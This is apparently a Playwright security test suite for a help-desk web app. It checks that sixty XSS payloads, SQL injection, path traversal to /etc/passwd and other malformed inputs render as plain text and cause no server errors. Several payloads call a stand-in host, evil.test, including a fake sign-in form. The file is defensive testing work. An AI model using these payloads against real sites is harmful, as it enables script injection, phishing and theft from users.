import type { BrowserContext, Page } from "@playwright/test";
import { expect, requestAs, test } from "./fixtures";
import { contactForm, newGuest, unique, writeAsGuest } from "./pages/contact-form";
import { composer } from "./pages/desk-ticket";

/** Ways to make a page run a stranger's script or call a stranger's machine. */
const payloads = [
  `<script>alert(1)</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `</script><script>alert(1)</script>`,
  `--><script>alert(1)</script>`,
  `]]><script>alert(1)</script>`,
  `'"><script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="//evil.test/p.png">`,
  `<img src=x:x onerror=import('//evil.test/m.js')>`,
  `<img srcset="//evil.test/a.png 1x">`,
  `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><use href="//evil.test/s.svg#x"/></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math href="javascript:alert(1)">click</math>`,
  `<body onload=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)>`,
  `<video src=//evil.test/v onerror=alert(1)>`,
  `<audio src onloadstart=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<marquee onstart=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<object data="//evil.test/o.swf"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<link rel=stylesheet href=//evil.test/s.css>`,
  `<link rel=prefetch href=//evil.test/p>`,
  `<style>@import '//evil.test/s.css';</style>`,
  `<div style="background:url(//evil.test/b.png)">x</div>`,
  `<base href="//evil.test/">`,
  `<meta http-equiv=refresh content="0;url=//evil.test/">`,
  `<form action="//evil.test/"><button>Sign in again</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<a href="javascript:alert(1)">read this</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">read this</a>`,
  `[read this](javascript:alert(1))`,
  `![x](//evil.test/tracker.png)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `javascript:alert(1)`,
  `" onmouseover="alert(1)" x="`,
  `' autofocus onfocus='alert(1)`,
  "`-alert(1)-`",
  `{{constructor.constructor('alert(1)')()}}`,
  "${alert(1)}",
  `<%= alert(1) %>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `＜script＞alert(1)＜/script＞`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template><x onclick=alert(1) tabindex=1 id=a>x</x>`,
];

/** Collects what hostile text has managed to do in this browser. */
function guard(context: BrowserContext): string[] {
  const done: string[] = [];
  context.on("dialog", (dialog) => {
    done.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on("request", (request) => {
    const { protocol, hostname } = new URL(request.url());
    if (/^https?:$/.test(protocol) && !["localhost", "127.0.0.1", "[::1]"].includes(hostname)) done.push(`request to ${request.url()}`);
  });
  return done;
}

/** Elements that show that text was taken for HTML, or that lead off this desk. */
async function foreignElements(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const made = "[onerror], [onload], [onfocus], [ontoggle], [onclick], base, embed, object, marquee, math, iframe:not([sandbox])";
    const leading = [...document.querySelectorAll("[src], [href], [action], [formaction]")].filter((element) =>
      ["src", "href", "action", "formaction"].some((name) => {
        const address = element.getAttribute(name);
        // What React writes there until somebody presses the button.
        if (address === null || address.startsWith("javascript:throw new Error('A React form")) return false;
        const { protocol, host } = new URL(address, location.href);
        return protocol !== "mailto:" && host !== location.host;
      }),
    );
    return [...document.querySelectorAll(made), ...leading].map((element) => element.outerHTML.slice(0, 200));
  });
}

test("SEC-WEB-01 sixty payloads in subject, message and name stay text for the agent", async ({ openAs }) => {
  test.setTimeout(120_000);
  const admin = await openAs("admin");
  await admin.goto("/desk/settings/api-keys");
  await admin.getByRole("textbox", { name: /^Name/ }).fill(unique("Hostile text"));
  await admin.getByRole("checkbox", { name: /Make tickets/ }).check();
  await admin.getByRole("button", { name: "Make key" }).click();
  const key = /gp_[\w-]{43}/.exec(await admin.getByRole("status").filter({ hasText: "is ready" }).innerText())?.[0] ?? "";
  const mark = unique("mark").split(" ")[1] ?? "";

  // Two to a ticket, a short one before a long one, so that both fit into a name and neither hides the other.
  const byLength = [...payloads].sort((one, other) => one.length - other.length);
  const texts = byLength.slice(0, 30).map((short, place) => `${short} ${byLength[59 - place]}`);
  expect(new Set(payloads).size).toBe(60);
  const numbers: number[] = [];
  for (const [place, payload] of texts.entries()) {
    const made = await admin.request.post("/api/v1/tickets", {
      headers: { authorization: `Bearer ${key}` },
      data: { subject: `${mark} ${payload}`, message: `Look: ${payload}\n\n${payload}`, requester: { name: payload, email: `hostile-${place}-${mark}@example.com` }, product: payload.slice(0, 120), orderNumber: payload.slice(0, 60), expected: payload },
    });
    expect(made.status(), payload).toBe(201);
    numbers.push(((await made.json()) as { number: number }).number);
  }
  
  const desk = await openAs("agent");
  const done = guard(desk.context());
  await desk.goto(`/desk?view=all&q=${mark}`);
  const listed = new Set(await desk.getByRole("table").getByRole("link").allTextContents());
  const next = desk.getByRole("navigation", { name: "Pages of the queue" }).getByRole("link", { name: "Next" });
  while ((await next.count()) > 0) {
    await desk.goto((await next.getAttribute("href")) ?? "");
    for (const subject of await desk.getByRole("table").getByRole("link").allTextContents()) listed.add(subject);
  }
  expect([...listed].sort()).toEqual(texts.map((text) => `${mark} ${text}`).sort());
  for (const [place, number] of numbers.entries()) {
    await desk.goto(`/desk/tickets/${number}`, { waitUntil: "domcontentloaded" });
    await expect(desk.getByRole("heading", { level: 1 })).toHaveText(`#${number} ${mark} ${texts[place]}`);
    await expect(desk.getByRole("region", { name: "Customer" })).toContainText(texts[place] ?? "");
    expect(await foreignElements(desk), texts[place]).toEqual([]);
  }
  expect(done).toEqual([]);
});

test("SEC-WEB-01 payloads that a guest sends stay text for the guest, the agent and the mailbox", async ({ page, openAs }) => {
  const done = guard(page.context());
  const mark = unique("mark").split(" ")[1] ?? "";
  const written: { number: string; lines: string[]; subject: string; name: string }[] = [];
  for (let part = 0; part < 4; part += 1) {
    const lines = payloads.slice(part * 15, part * 15 + 15);
    const subject = `${mark} ${lines[0]}`;
    const name = (lines[part + 1] ?? "").slice(0, 120);
    const { number } = await writeAsGuest(page, { ...newGuest(), name, subject, message: lines.join("\n\n") });
    for (const line of lines) await expect(page.getByRole("region", { name: "Conversation" })).toContainText(line);
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(subject);
    expect(await foreignElements(page)).toEqual([]);
    written.push({ number, lines, subject, name });
  }
  const desk = await openAs("agent");
  const doneAtDesk = guard(desk.context());
  for (const { number, lines, subject, name } of written) {
    await desk.goto(`/desk/tickets/${number}`);
    await expect(desk.getByRole("heading", { level: 1 })).toHaveText(`#${number} ${subject}`);
    for (const line of lines) await expect(desk.getByRole("main")).toContainText(line);
    expect(await foreignElements(desk)).toEqual([]);
    const { reply, sendAndWait } = composer(desk, name);
    await reply.fill(lines.join("\n\n"));
    await sendAndWait.click();
    await expect(desk.getByText("Reply sent.")).toBeVisible();
    expect(await foreignElements(desk)).toEqual([]);
  }
  const admin = await openAs("admin");
  const doneInMailbox = guard(admin.context());
  for (const { subject, lines } of written) {
    await admin.goto("/desk/settings/mail");
    await admin.getByRole("link", { name: subject }).click();
    await expect(admin.getByRole("region", { name: "As text" })).toBeVisible();
    await expect(admin.frameLocator("iframe").locator("body")).toContainText(lines[0] ?? "");
    expect(await admin.frameLocator("iframe").locator("script, [onerror], [onload], img").count()).toBe(0);
    expect(await foreignElements(admin)).toEqual([]);
  }
  expect([...done, ...doneAtDesk, ...doneInMailbox]).toEqual([]);
});

test("payloads in a search stay text, on the page and for whoever reads the figures", async ({ page, openAs }) => {
  const done = guard(page.context());
  for (const payload of payloads.filter((_, place) => place % 6 === 0)) {
    const answer = await page.goto(`/search?q=${encodeURIComponent(payload)}`, { waitUntil: "domcontentloaded" });
    expect(answer?.status(), payload).toBe(200);
    await expect(page.getByRole("heading", { level: 1 })).toContainText(payload);
    expect(await foreignElements(page), payload).toEqual([]);
  }
  const manager = await openAs("manager");
  const doneAtDesk = guard(manager.context());
  await manager.goto("/desk/insights?days=7");
  await expect(manager.getByRole("heading", { level: 1 })).toBeVisible();
  expect([...done, ...doneAtDesk]).toEqual([]);
});

const searches: Record<string, string> = {
  "10,000 letters": "a".repeat(10_000),
  "2,000 words": Array.from({ length: 2_000 }, (_, place) => `w${place}`).join(" "),
  "emoji only": "🧺🔥💧🧊".repeat(20),
  "joined emoji": "👩‍👩‍👧‍👦🏳️‍🌈".repeat(10),
  "right-to-left": "أين طردي المتأخر",
  "direction overrides": "\u202e\u2066\u2067refund\u2069\u202c",
  "combining marks": `z${"\u0335\u0322\u0341".repeat(300)}`,
  "zero-width": "re\u200bfund\ufeff\u200d",
  NUL: "refund\u0000missing",
  "control characters": "\u0001\u0007\u001b[31mrefund\r\n\t",
  SQL: `'; DROP TABLE "Ticket"; --`,
  "SQL wildcards": "%_%\\%",
  "tsquery operators": "a & | ! ( <-> :* 'b",
  "a regular expression": "(a+)+$[[:alpha:]]*(?=",
  "a catastrophic expression": `${"a".repeat(300)}!`,
  "object keys": "__proto__ constructor toString hasOwnProperty",
  "a template": "${7*7} {{7*7}} #{7*7} <%= 7*7 %>",
  "a path": "../../../../etc/passwd",
  "half a surrogate pair": "refund\ud83d",
  "only spaces": " \u00a0\u3000\t ",
};

test("no search, however odd, fails: on the page, for programs, and in the queue", async ({ request, baseURL }) => {
  const agent = await requestAs(baseURL ?? "", "agent");
  for (const [name, query] of Object.entries(searches)) {
    // A lone half of a surrogate pair travels as the replacement character; its raw bytes are tried below.
    const asked = encodeURIComponent(new TextDecoder().decode(new TextEncoder().encode(query)));
    const started = Date.now();
    const page = await request.get(`/search?q=${asked}`);
    expect(page.status(), name).toBe(200);
    expect(Date.now() - started, name).toBeLessThan(5_000);
    expect([200, 400], `${name}, for programs`).toContain((await request.get(`/api/v1/search?q=${asked}`)).status());
    expect((await agent.get(`/desk?view=all&q=${asked}`)).status(), `${name}, in the queue`).toBe(200);
  }
  for (const raw of ["q=%", "q=%E0%A4%A", "q=%ED%A0%80", "q=a&q=b", "q[]=a", "q=a&page=-1", "q=a&page=1e9", "q=a&category=__proto__", "q=a&s='", "__proto__[a]=b"]) {
    for (const path of ["/search", "/api/v1/search"]) expect((await request.get(`${path}?${raw}`)).status(), `${path}?${raw}`).toBeLessThan(500);
    expect((await agent.get(`/desk?${raw}&view=%00&after=%00&createdFrom=9999-99-99&causeId=x&assigneeId='`)).status(), `/desk?${raw}`).toBeLessThan(500);
  }
  await agent.dispose();
});

test("no address, however odd, fails", async ({ request, baseURL }) => {
  const agent = await requestAs(baseURL ?? "", "agent");
  const odd = ["%00", "%", "..%2f..%2fetc%2fpasswd", "a".repeat(3_000), "-1", "0", "1e9", "99999999999999999999", "NaN", "__proto__", "constructor", "%F0%9F%A7%BA", "'--", "%ED%A0%80"];
  for (const part of odd) {
    for (const path of [`/guidelines/${part}`, `/guidelines/category/${part}`, `/ticket/${part}`, `/contact?article=${part}&step=${part}&q=${part}&topic=${part}`, `/sign-in?next=${part}`]) {
      expect((await request.get(path)).status(), path.slice(0, 80)).toBeLessThan(500);
    }
    for (const path of [`/desk/tickets/${part}`, `/desk/guidelines/${part}`, `/desk/guidelines/${part}/edit`, `/desk/insights?days=${part}&topic=${part}`, `/desk?after=${part}&before=${part}`, `/desk/guidelines?q=${part}&category=${part}&after=${part}`, `/desk/guidelines/parcel-late?before=${part}&compare=${part}&revision=${part}`]) {
      expect((await agent.get(path)).status(), path.slice(0, 80)).toBeLessThan(500);
    }
  }
  await agent.dispose();
});

test("a message of 25,000 characters is refused, and every character stays in the form", async ({ page }) => {
  const long = `${"It is a long story. ".repeat(1_250)}`.slice(0, 24_999) + "!";
  await page.goto("/contact");
  const form = contactForm(page);
  await form.fill({ ...newGuest(), subject: "A long story" });
  await form.message.evaluate((field: HTMLTextAreaElement, text) => {
    field.value = text;
  }, long);
  await form.send.click();
  await expect(form.message).toHaveAccessibleDescription(/at most 20,000 characters/);
  await expect(form.message).toBeFocused();
  expect((await form.message.inputValue()).length).toBe(25_000);
  await expect(form.subject).toHaveValue("A long story");
  await expect(page).toHaveURL(/\/contact$/);
});
